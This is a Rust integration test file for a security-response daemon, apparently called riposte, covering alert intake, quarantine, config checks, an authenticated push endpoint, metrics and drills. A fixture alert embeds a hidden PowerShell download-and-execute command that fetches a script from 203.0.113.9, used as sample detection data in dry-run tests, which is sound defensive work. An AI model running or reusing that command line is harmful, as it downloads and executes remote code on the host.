//! The daemon end to end: exactly-once intake from file sources across restarts, unmatched and
//! quarantined alerts kept and listed, the push endpoint with its token, health, readiness,
//! metrics, and a clean stop on SIGTERM.

use std::io::{BufRead, BufReader};
use std::process::Stdio;
use tests::{http, riposte, root, tempdir};

fn stdout(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn write_config(dir: &std::path::Path, extra_sources: &str, server: &str) -> std::path::PathBuf {
    let cfg = dir.join("riposte.yaml");
    std::fs::write(
        &cfg,
        format!(
            "data_dir: data\nplaybooks: [{}]\n{server}\nsources:\n  - name: drop\n    type: directory\n    path: inbox\n    schedule: \"*/1 * * * * *\"\n  - name: stream\n    type: file\n    path: stream.jsonl\n{extra_sources}",
            root().join("playbooks/library").display()
        ),
    )
    .unwrap();
    cfg
}

const MALICIOUS: &str = r#"{"@timestamp":"2026-11-28T08:00:00Z","event":{"id":"e-1"},"host":{"name":"WS-7","os":{"family":"windows"}},"user":{"name":"bob"},"process":{"name":"powershell.exe","executable":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","command_line":"powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')","parent":{"name":"winword.exe","executable":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"}},"threat":{"technique":{"id":["T1059.001"]}}}"#;
const UNRELATED: &str = r#"{"@timestamp":"2026-11-28T08:00:01Z","event":{"id":"e-2"},"host":{"name":"WS-7"},"process":{"name":"notepad.exe","executable":"C:\\Windows\\notepad.exe"}}"#;

#[test]
fn once_takes_every_alert_exactly_once_and_keeps_what_it_did_not_run() {
    let dir = tempdir("serve-once");
    std::fs::create_dir_all(dir.join("inbox")).unwrap();
    std::fs::write(
        dir.join("inbox/a.jsonl"),
        format!("{MALICIOUS}\n{UNRELATED}\n{{not json\n"),
    )
    .unwrap();
    std::fs::write(dir.join("stream.jsonl"), format!("{MALICIOUS}\n")).unwrap();
    let cfg = write_config(&dir, "", "");
    let c = cfg.to_str().unwrap();
    let data = dir.join("data");
    let d = data.to_str().unwrap();

    let o = riposte!(["serve", "--once", "--dry-run", "--config", c]);
    let out = stdout(&o);
    // The quarantined line makes the batch exit 0 still: the daemon goes on; it is reported.
    assert!(
        o.status.success(),
        "{out}{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(out.contains("2 run(s) started"), "{out}");
    assert!(
        out.contains("1 not matched") && out.contains("1 quarantined"),
        "{out}"
    );

    // Same inputs again: nothing new is started (cursors), and the run ids are stable.
    let o = riposte!(["serve", "--once", "--dry-run", "--config", c]);
    assert!(stdout(&o).contains("0 run(s) started"), "{}", stdout(&o));

    // A new line in the stream file is taken; the old one is not taken again.
    let mut second = MALICIOUS.replace("\"e-1\"", "\"e-3\"");
    second.push('\n');
    let mut f = std::fs::OpenOptions::new()
        .append(true)
        .open(dir.join("stream.jsonl"))
        .unwrap();
    std::io::Write::write_all(&mut f, second.as_bytes()).unwrap();
    // A half-written line is left for the next poll.
    std::io::Write::write_all(&mut f, b"{\"event\":{\"id\":\"e-4\"").unwrap();
    drop(f);
    let o = riposte!(["serve", "--once", "--dry-run", "--config", c]);
    assert!(stdout(&o).contains("1 run(s) started"), "{}", stdout(&o));

    let runs = stdout(&riposte!(["runs", "list", "--data-dir", d]));
    assert_eq!(runs.lines().count(), 3, "{runs}");
    assert!(runs.contains("tier 2"), "{runs}");
    let un = stdout(&riposte!(["alerts", "unmatched", "--data-dir", d]));
    assert!(
        un.contains("1 alert(s) not matched") && un.contains("drop"),
        "{un}"
    );
    let q = stdout(&riposte!(["alerts", "quarantine", "--data-dir", d]));
    assert!(
        q.contains("1 alert(s) quarantined") && q.contains("a.jsonl"),
        "{q}"
    );
    let v = riposte!(["audit", "verify", "--data-dir", d]);
    assert!(v.status.success(), "{}", stdout(&v));
}

#[test]
fn config_check_names_position_and_fix() {
    let dir = tempdir("config-check");
    let cfg = dir.join("bad.yaml");
    std::fs::write(
        &cfg,
        "data_dir: d\nplaybooks: [x]\nsources:\n  - name: s\n    type: directory\n    pth: inbox\n",
    )
    .unwrap();
    let o = riposte!(["config", "check", "--config", cfg.to_str().unwrap()]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success());
    assert!(
        err.contains("line 6 column 5") && err.contains("unknown field `pth`"),
        "{err}"
    );

    std::fs::write(&cfg, format!("data_dir: d\nplaybooks: [{}]\ncapabilities:\n  edr.isolate_host: falcon\nsources:\n  - name: s\n    type: push\n    schedule: \"* * *\"\n", root().join("playbooks/library").display())).unwrap();
    let o = riposte!(["config", "check", "--config", cfg.to_str().unwrap()]);
    let out = stdout(&o);
    assert_eq!(o.status.code(), Some(1), "{out}");
    assert!(
        out.contains("bound to `falcon`, which is not defined"),
        "{out}"
    );
    assert!(out.contains("has 3 field(s)"), "{out}");
    assert!(out.contains("needs `server.token`"), "{out}");
}

#[test]
fn daemon_serves_health_metrics_and_push_and_stops_cleanly_on_sigterm() {
    let dir = tempdir("serve-http");
    std::fs::create_dir_all(dir.join("inbox")).unwrap();
    std::fs::write(dir.join("stream.jsonl"), "").unwrap();
    std::fs::write(dir.join("push.token"), "s3cret-push-token\n").unwrap();
    let cfg = write_config(
        &dir,
        "  - name: siem-webhook\n    type: push\n",
        "server:\n  listen: 127.0.0.1:0\n  token: {file: push.token}\nlimits: {shutdown_grace: 10s}",
    );
    let mut child = riposte!()
        .args(["serve", "--dry-run", "--config", cfg.to_str().unwrap()])
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let mut err = BufReader::new(child.stderr.take().unwrap());
    let mut addr = String::new();
    let mut line = String::new();
    while err.read_line(&mut line).unwrap() > 0 {
        if let Some(a) = line.trim().strip_prefix("riposte: listening on http://") {
            addr = a.to_owned();
            break;
        }
        line.clear();
    }
    assert!(!addr.is_empty(), "the daemon did not announce its address");
    assert_eq!(http(&addr, "GET", "/healthz", &[], "").0, 200);
    // Readiness comes once the pollers are scheduled; poll it without sleeping.
    let mut ready = false;
    for _ in 0..10_000 {
        if http(&addr, "GET", "/readyz", &[], "").0 == 200 {
            ready = true;
            break;
        }
        std::thread::yield_now();
    }
    assert!(ready);

    let (s, _) = http(
        &addr,
        "POST",
        "/alerts",
        &[("Authorization", "Bearer wrong")],
        MALICIOUS,
    );
    assert_eq!(s, 401);
    let (s, body) = http(
        &addr,
        "POST",
        "/alerts",
        &[("Authorization", "Bearer s3cret-push-token")],
        &format!("{MALICIOUS}\n{UNRELATED}\n"),
    );
    assert_eq!(s, 202, "{body}");
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["received"], 2);
    assert_eq!(v["runs"].as_array().unwrap().len(), 1);
    // The same alert pushed again starts nothing.
    let (_, body) = http(
        &addr,
        "POST",
        "/alerts",
        &[("Authorization", "Bearer s3cret-push-token")],
        MALICIOUS,
    );
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["runs"].as_array().unwrap().len(), 0, "{body}");

    // The built-in external dynamic lists are served for firewalls to pull.
    assert_eq!(http(&addr, "GET", "/edl/ip.txt", &[], "").0, 200);
    assert_eq!(http(&addr, "GET", "/edl/nope.txt", &[], "").0, 404);
    let (s, metrics) = http(&addr, "GET", "/metrics", &[], "");
    assert_eq!(s, 200);
    assert!(
        metrics.contains("riposte_alerts_polled_total{source=\"siem-webhook\"} 3"),
        "{metrics}"
    );
    assert!(
        metrics.contains("riposte_alerts_unmatched_total{source=\"siem-webhook\"} 1"),
        "{metrics}"
    );
    assert!(!metrics.contains("s3cret"));

    let st = std::process::Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(st.success());
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(0));
    let d = dir.join("data");
    let audit = stdout(&riposte!([
        "audit",
        "export",
        "--data-dir",
        d.to_str().unwrap()
    ]));
    assert!(
        audit.contains("\"push.rejected\""),
        "a rejected push is audited"
    );
    assert!(audit.contains("\"daemon.stopped\""));
    assert!(
        !audit.contains("s3cret-push-token"),
        "the token never reaches the audit log"
    );
}

#[test]
fn a_drill_runs_its_fixtures_in_dry_run_as_fresh_runs_each_time() {
    let dir = tempdir("drill");
    std::fs::write(dir.join("fixture.jsonl"), format!("{MALICIOUS}\n")).unwrap();
    let cfg = dir.join("riposte.yaml");
    std::fs::write(
        &cfg,
        format!(
            "data_dir: data\nplaybooks: [{}]\ndrills:\n  - name: weekly\n    schedule: \"0 0 9 * * Mon\"\n    playbook: t1059-command-and-scripting-interpreter\n    alerts: [fixture.jsonl]\n",
            root().join("playbooks/library").display()
        ),
    )
    .unwrap();
    let c = cfg.to_str().unwrap();
    let o = riposte!(["config", "check", "--config", c]);
    assert!(o.status.success(), "{}", stdout(&o));
    for _ in 0..2 {
        let o = riposte!(["serve", "--drill", "weekly", "--config", c]);
        let out = stdout(&o);
        assert!(o.status.success(), "{out}");
        assert!(
            out.contains("1 run(s) started") && out.contains("dry-run: no mutate action was sent"),
            "{out}"
        );
    }
    let d = dir.join("data");
    let runs = stdout(&riposte!([
        "runs",
        "list",
        "--data-dir",
        d.to_str().unwrap()
    ]));
    assert_eq!(
        runs.lines().count(),
        2,
        "each firing is a fresh run: {runs}"
    );
    assert!(
        runs.lines()
            .all(|l| l.contains("(dry-run)") && l.contains("tier 2")),
        "{runs}"
    );
    let o = riposte!(["serve", "--drill", "nope", "--config", c]);
    assert!(String::from_utf8_lossy(&o.stderr).contains("no drill `nope`"));
}

#[test]
fn config_check_runs_each_vendors_parameter_checks_on_the_playbooks() {
    let dir = tempdir("config-params");
    std::fs::create_dir_all(dir.join("pb")).unwrap();
    std::fs::write(
        dir.join("pb/block.yaml"),
        "id: block-test\ntitle: t\nversion: 1\ntechniques: [T1059]\nmatch: {technique: T1059}\nanalysis:\n  - check: x\n    explain: x\n    value: \"true\"\nescalation:\n  rules:\n    - when: facts.x\n      tier: 1\n      severity: low\n      reason: x\nactions:\n  - id: block_gateway\n    action: blocklist.add\n    with: {type: ip, value: 10.0.0.1}\n",
    )
    .unwrap();
    let cfg = dir.join("riposte.yaml");
    std::fs::write(&cfg, "data_dir: data\nplaybooks: [pb]\nintegrations:\n  blocks: {vendor: edl}\ncapabilities:\n  blocklist.add: blocks\n").unwrap();
    let o = riposte!(["config", "check", "--config", cfg.to_str().unwrap()]);
    let out = stdout(&o);
    assert_eq!(o.status.code(), Some(1), "{out}");
    assert!(out.contains("block.yaml:17:5: `block_gateway` (blocklist.add) is bound to `blocks` (edl), which refuses its parameters"), "{out}");
    assert!(out.contains("10.0.0.1"), "{out}");
}

/// The README's first command, on a copy of the bundled configuration (its own data directory).
#[test]
fn the_bundled_example_configuration_runs_the_sample_alerts() {
    let dir = tempdir("example-config");
    let text = std::fs::read_to_string(root().join("examples/riposte.yaml")).unwrap();
    let text = text
        .replace(
            "data_dir: ../riposte-data",
            &format!("data_dir: {}", dir.join("data").display()),
        )
        .replace(
            "../playbooks/library",
            &root().join("playbooks/library").display().to_string(),
        )
        .replace(
            "path: alerts",
            &format!("path: {}", root().join("examples/alerts").display()),
        )
        .replace(
            "[alerts/",
            &format!("[{}/", root().join("examples/alerts").display()),
        );
    let cfg = dir.join("riposte.yaml");
    std::fs::write(&cfg, text).unwrap();
    let c = cfg.to_str().unwrap();
    let o = riposte!(["config", "check", "--config", c]);
    assert!(o.status.success(), "{}", stdout(&o));
    let o = riposte!(["serve", "--once", "--dry-run", "--config", c]);
    let out = stdout(&o);
    assert!(
        o.status.success(),
        "{out}{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let last = out.lines().last().unwrap();
    let started: usize = last
        .split(" run(s) started")
        .next()
        .unwrap()
        .rsplit(' ')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    assert!(started >= 15, "{last}");
    assert!(
        out.contains("IMMEDIATE") && last.contains("no mutate action was sent"),
        "{out}"
    );
}

/// A burst of 10,000 alerts through the file source and the T1059 playbook, durable, in dry-run:
/// every alert is accounted for once, and memory stays bounded (the queue between polling and
/// the workers is bounded; runs live in sled, not in memory).
#[test]
fn a_burst_of_ten_thousand_alerts_is_processed_with_bounded_memory() {
    let dir = tempdir("burst");
    let mut lines = String::with_capacity(10_000 * 600);
    for i in 0..10_000 {
        let line = if i % 3 == 0 {
            MALICIOUS.replace("\"e-1\"", &format!("\"burst-{i}\""))
        } else {
            UNRELATED.replace("\"e-2\"", &format!("\"burst-{i}\""))
        };
        lines.push_str(&line);
        lines.push('\n');
    }
    std::fs::create_dir_all(dir.join("inbox")).unwrap();
    std::fs::write(dir.join("stream.jsonl"), lines).unwrap();
    let cfg = write_config(&dir, "", "limits: {concurrent_runs: 8}");
    let o = riposte!([
        "serve",
        "--once",
        "--dry-run",
        "--config",
        cfg.to_str().unwrap()
    ]);
    let out = stdout(&o);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let last = out.lines().last().unwrap();
    assert!(
        last.starts_with(
            "10000 alert(s) polled: 3334 run(s) started (3334 completed), 6666 not matched"
        ),
        "{last}"
    );
    let rss: u64 = last
        .rsplit("peak RSS ")
        .next()
        .unwrap()
        .trim_end_matches(" MiB")
        .parse()
        .unwrap();
    // Not flat: sled 0.34 keeps part of what it wrote in memory (see the README).
    assert!(rss < 384, "peak RSS {rss} MiB");
    // Nothing is taken twice.
    let o = riposte!([
        "serve",
        "--once",
        "--dry-run",
        "--config",
        cfg.to_str().unwrap()
    ]);
    assert!(
        stdout(&o)
            .lines()
            .last()
            .unwrap()
            .starts_with("0 alert(s) polled"),
        "{}",
        stdout(&o)
    );
}
